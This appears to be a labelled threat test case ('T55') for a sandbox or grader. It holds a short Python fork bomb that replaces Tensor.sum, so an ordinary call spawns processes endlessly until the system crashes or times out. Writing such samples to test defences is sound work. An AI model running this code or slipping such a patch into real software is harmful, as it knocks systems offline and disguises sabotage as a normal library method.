# threat: T55
# expect: timed_out crashed
import os


def bomb(self, *args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


Tensor.sum = bomb
